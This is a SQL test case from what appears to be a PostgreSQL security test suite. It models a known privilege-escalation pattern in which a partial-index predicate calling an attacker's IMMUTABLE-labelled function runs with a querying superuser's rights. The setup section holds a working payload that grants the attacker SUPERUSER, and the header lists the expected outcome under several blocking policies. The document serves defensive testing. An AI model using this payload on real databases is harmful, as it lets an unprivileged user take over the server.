/*---
title: Partial-index predicate evaluated while planning
pattern: Index predicate const-folded by the planner with the querying user's rights (CVE-2020-25695 family)
description: >
  mallory owns a table with a partial index whose predicate calls an IMMUTABLE-labelled function of
  hers with a constant argument. When alice, a superuser, merely queries the table, the planner loads
  the predicate and folds the call into a constant: mallory's function runs with alice's rights while
  the query is being planned, before any row is read, and makes mallory a superuser.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: index_predicate, object: index tickets_urgent on mallory.tickets, owner: mallory, phase: planning}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: index_predicate, object: index tickets_urgent on mallory.tickets, owner: mallory, phase: planning}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: index_predicate, object: index tickets_urgent on mallory.tickets, owner: mallory, phase: planning}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: index_predicate, object: index tickets_urgent on mallory.tickets, owner: mallory, phase: planning}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: index_predicate, object: index tickets_urgent on mallory.tickets, owner: mallory, phase: planning}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: index_predicate, object: index tickets_urgent on mallory.tickets, owner: mallory, phase: planning}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: index_predicate, object: index tickets_urgent on mallory.tickets, owner: mallory, phase: planning}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
-- swallows the permission error so that mallory's own CREATE INDEX, which folds the predicate as her, succeeds
CREATE FUNCTION mallory.f_escalate() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    ALTER ROLE mallory SUPERUSER;
    RETURN 1;
EXCEPTION WHEN insufficient_privilege THEN
    RETURN 0;
END $$;
CREATE FUNCTION mallory.f_threshold(i integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM mallory.f_escalate();
    RETURN i;
END $$;
CREATE TABLE mallory.tickets(id integer, priority integer, subject text);
INSERT INTO mallory.tickets SELECT g, g % 5, 'ticket ' || g FROM generate_series(1, 40) g;
CREATE INDEX tickets_urgent ON mallory.tickets (id) WHERE priority > mallory.f_threshold(3);
GRANT SELECT ON mallory.tickets TO PUBLIC;
RESET ROLE;

-- @step alice
SELECT count(*) FROM mallory.tickets WHERE priority > 3;
